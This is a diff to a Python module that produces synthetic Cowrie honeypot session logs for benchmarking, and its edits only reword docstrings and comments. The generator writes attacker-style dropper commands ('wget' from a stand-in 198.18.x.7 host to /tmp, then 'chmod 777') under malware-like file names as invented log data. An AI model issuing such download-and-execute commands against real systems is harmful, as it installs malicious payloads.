@@ -1,7 +1,7 @@
-"""What attackers' sessions look like in Cowrie's log: a pool of them, rendered once, replayed for ever.
+"""A pool of attackers' sessions as Cowrie logs them, rendered once and replayed any number of times.
 
-A session is rendered as JSON lines with one control character where something changes from one replay to the
-next: JSON never holds a bare control character, so that filling them in is plain text replacement. The
+A session is rendered as JSON lines with a control character as the placeholder of each value that differs between
+replays: JSON contains no unescaped control characters, so placeholders can be filled in by replacing text. The
 proportions are those of real logs (see benchmarks/README.md), the data is invented.
 """
 
@@ -14,7 +14,7 @@ from random import Random
 
 SESSION, SRC_IP, SRC_PORT, TIMESTAMP = "\x01", "\x02", "\x03", "\x04"
 FILES = ("\x05", "\x06", "\x07", "\x0e", "\x0f", "\x10")
-"""Where the hash of the first, second, … file of a session goes."""
+"""Placeholders of the hashes of the first, second, … file of a session."""
 
 EMPTY_HASH = ""
 DST_IP = "203.0.113.5"
@@ -72,7 +72,13 @@ _NAMES = ("redtail.arm7", "redtail.x86_64", "sshd", "setup.sh", "clean.sh", "m68
 
 @dataclass(frozen=True, slots=True)
 class Script:
-    """One session: its lines joined by newlines, the second at which each comes, and how many files it names."""
+    """A session.
+
+    Attributes:
+        text: its lines, joined by newlines.
+        offsets_s: seconds from its start to each line.
+        files: the number of different files that it names.
+    """
 
     text: str
     offsets_s: tuple[float, ...]
@@ -80,12 +86,12 @@ class Script:
 
 
 class _Session:
-    """Collects the events of one session in the order of keys that one version of Cowrie gives them."""
+    """Collects the events of a session, with the key order of one version of Cowrie."""
 
     def __init__(self, rng: Random, sensor: str) -> None:
         self.rng = rng
         self.sensor = sensor
-        self.old = rng.random() < 0.35  # Cowrie 2.2's order of keys, else that of 3.1
+        self.old = rng.random() < 0.35  # the key order of Cowrie 2.2, else of 3.1
         self.telnet = not self.old and rng.random() < 0.12
         self.uuid = f"{rng.getrandbits(32):08x}-e605-11f1-b025-02fc00000001"
         self.lines: list[str] = []
@@ -94,7 +100,7 @@ class _Session:
         self.files = 0
 
     def event(self, eventid: str, message: object, delay_s: float, /, **fields: object) -> None:
-        """Add one event; `delay_s` is the mean of the seconds since the one before."""
+        """Add an event; `delay_s` is the mean delay until the next one, in seconds."""
         tail = {"sensor": self.sensor, "timestamp": TIMESTAMP}
         if self.old:
             event = {"eventid": f"cowrie.{eventid}", **fields, "message": message, **tail}
@@ -158,7 +164,7 @@ class _Session:
             self.event("command.failed", f"Command not found: {command}", 0.1, input=command)
 
     def terminal(self) -> None:
-        """Add what a client says that asks for a terminal; a telnet client says it in its own way."""
+        """Add the events of a client that requests a terminal, by SSH or telnet."""
         if self.telnet:
             self.event("telnet.option", "Telnet option: NAWS 80x24", 0.1, option="NAWS", value="80x24")
             return
@@ -167,7 +173,7 @@ class _Session:
             self.event("client.var", "request_env: LANG=C.UTF-8", 0.05, name="LANG", value="C.UTF-8")
 
     def offer_key(self) -> None:
-        """Add an attempt to log in by public key."""
+        """Add a login attempt with a public key."""
         digits = f"{self.rng.getrandbits(128):032x}"
         fingerprint = ":".join(digits[n : n + 2] for n in range(0, 32, 2))
         key = f"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB{self.rng.getrandbits(1500):x}"
@@ -176,7 +182,7 @@ class _Session:
         self.event("client.fingerprint", message, 0.5, **fields)
 
     def channel(self, *, commands: int, files: int, logged: bool = True) -> None:
-        """Add one exec channel or shell: parameters, commands, the files they leave, the tty log."""
+        """Add an exec channel or shell: parameters, commands, their files, the tty log."""
         self.event("session.params", [] if self.old else "", 0.05, arch="linux-x64-lsb")
         for _ in range(commands):
             self.command()
@@ -192,7 +198,7 @@ class _Session:
             )  # fmt: skip
 
     def file(self) -> None:
-        """Add one file event; of the real ones a tenth are uploads, 3.4 % have no hash, 27 % have a url."""
+        """Add a file event; of the real ones a tenth are uploads, 3.4 % have no hash, 27 % have a URL."""
         rng = self.rng
         if rng.random() < 0.015:
             self.event("session.file_download", "INPUT (scp): ls", 0.2, realm="scp", input="ls")
@@ -231,8 +237,8 @@ class _Session:
             self.event("direct-tcpip.request", message, 0.3, **where)
             if rng.random() < 0.5:
                 data = "b'GET / HTTP/1.0\\r\\nUser-Agent: " + "x" * rng.randrange(300) + "\\r\\n\\r\\n'"
-                said = f"discarded direct-tcp forward request {number} to ya.example:80 with data {data}"
-                self.event("direct-tcpip.data", said, 0.3, **where, data=data, id=number)
+                text = f"discarded direct-tcp forward request {number} to ya.example:80 with data {data}"
+                self.event("direct-tcpip.data", text, 0.3, **where, data=data, id=number)
 
     def script(self) -> Script:
         return Script("\n".join(self.lines), tuple(self.offsets_s), self.files)
@@ -266,7 +272,7 @@ def _make_script(rng: Random, sensor: str) -> Script:
 
 
 def _act(rng: Random, session: _Session) -> None:
-    """Add what an attacker does who got in."""
+    """Add the events after a successful login."""
     kind = rng.random()
     if kind < 0.04:
         session.forward()
@@ -288,7 +294,7 @@ def _some(rng: Random, names: list[str], share: float) -> list[str]:
 
 
 def _long_command(rng: Random) -> str:
-    """Return a command as droppers send them: some hundred bytes, now and then some thousand."""
+    """Return a command as droppers send it: usually hundreds of bytes, sometimes thousands."""
     pieces = [f"wget http://198.18.{rng.randrange(256)}.7/{rng.choice(_NAMES)} -O /tmp/x; chmod 777 /tmp/x; "]
     chars = min(int(rng.paretovariate(1.1) * 90), 5000)
     while sum(map(len, pieces)) < chars:
@@ -297,7 +303,7 @@ def _long_command(rng: Random) -> str:
 
 
 def _render(event: dict[str, object]) -> str:
-    """Return the event as Cowrie writes it, with bare markers where JSON would escape them."""
+    """Return the event as Cowrie writes it, with unescaped placeholders."""
     line = json.dumps(event, separators=(",", ":"))
     for marker in (SESSION, SRC_IP, TIMESTAMP, *FILES):
         line = line.replace(json.dumps(marker)[1:-1], marker)
